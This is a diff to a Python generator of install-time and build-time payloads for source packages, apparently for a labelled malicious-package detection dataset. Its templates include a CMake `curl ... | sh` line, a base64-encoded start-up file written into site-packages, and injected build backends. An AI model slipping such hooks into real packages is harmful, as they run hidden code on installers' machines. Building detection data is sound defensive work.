@@ -1,5 +1,6 @@
 """Payloads that run when an sdist is built or installed: setup.py, commands, build backends, build tools."""
 
+import base64
 import re
 import textwrap
 
@@ -76,8 +77,6 @@ def helper_module(draft: Draft) -> None:
 
 def writes_startup_file(draft: Draft) -> None:
     """Write a start-up file into site-packages from setup.py."""
-    import base64
-
     encoded = base64.b64encode(draft.plain().encode()).decode()
     draft.insert(_setup(draft), draft.words.render(
         "import site\nimport sysconfig\nfrom pathlib import Path\n\nfor @n5@ in {sysconfig.get_path('purelib'), *site.getsitepackages()}:\n"
@@ -99,7 +98,9 @@ def backend_in_tree(draft: Draft) -> None:
     name = draft.rng.choice(("_backend", "backend", "_custom_build", "build_meta"))
     folder = draft.rng.choice(("_build", "tools", "buildtools"))
     _set_backend(draft, f'requires = ["setuptools>=61"]\nbuild-backend = "{name}"\nbackend-path = ["{folder}"]\n')
-    draft.put_new(f"{draft.root}{folder}/{name}.py", f"from setuptools.build_meta import *  # noqa: F403\n\n{draft.code()}")
+    draft.put_new(
+        f"{draft.root}{folder}/{name}.py", f"from setuptools.build_meta import *  # noqa: F403\n\n{draft.code()}"
+    )
 
 
 def backend_hook(draft: Draft) -> None:
@@ -131,10 +132,12 @@ def hatch_hook(draft: Draft) -> None:
 def cmake_step(draft: Draft) -> None:
     """Run a shell from CMake when the release is configured."""
     text = draft.words.render(
-        "execute_process(COMMAND sh -c \"curl -fsSL @url@ | sh\" OUTPUT_QUIET ERROR_QUIET)\n"
+        'execute_process(COMMAND sh -c "curl -fsSL @url@ | sh" OUTPUT_QUIET ERROR_QUIET)\n'
     )  # fmt: skip
     path = f"{draft.root}CMakeLists.txt"
-    before = draft.files.get(path, b"cmake_minimum_required(VERSION 3.15)\nproject(ext LANGUAGES C)\n").decode("utf-8", "replace")
+    before = draft.files.get(path, b"cmake_minimum_required(VERSION 3.15)\nproject(ext LANGUAGES C)\n").decode(
+        "utf-8", "replace"
+    )
     draft.put(path, before.rstrip("\n") + "\n\n" + text)
     if path not in draft.package.files():
         _set_backend(draft, 'requires = ["scikit-build-core"]\nbuild-backend = "scikit_build_core.build"\n')
@@ -143,7 +146,10 @@ def cmake_step(draft: Draft) -> None:
 def meson_step(draft: Draft) -> None:
     """Run a script of the release from meson."""
     draft.put_new(f"{draft.root}tools/gen_version.py", draft.code())
-    draft.put_new(f"{draft.root}meson.build", "project('ext', 'c', version: run_command('python3', 'tools/gen_version.py', check: false).stdout().strip())\n")
+    draft.put_new(
+        f"{draft.root}meson.build",
+        "project('ext', 'c', version: run_command('python3', 'tools/gen_version.py', check: false).stdout().strip())\n",
+    )
     _set_backend(draft, 'requires = ["meson-python"]\nbuild-backend = "mesonpy"\n')
 
 
@@ -154,7 +160,9 @@ FAMILIES = (
     Family("build-command", "install", "valid", build_command, "sdist"),
     Family("metadata-command", "install", "test", metadata_command, "sdist"),
     Family("setup-helper", "install", "train", helper_module, "sdist"),
-    Family("setup-writes-startup", "install", "test", writes_startup_file, "sdist", "base64-written", takes_trigger=False),
+    Family(
+        "setup-writes-startup", "install", "test", writes_startup_file, "sdist", "base64-written", takes_trigger=False
+    ),
     Family("backend-in-tree", "backend", "train", backend_in_tree, "sdist"),
     Family("backend-hook", "backend", "test", backend_hook, "sdist"),
     Family("hatch-hook", "backend", "valid", hatch_hook, "sdist"),
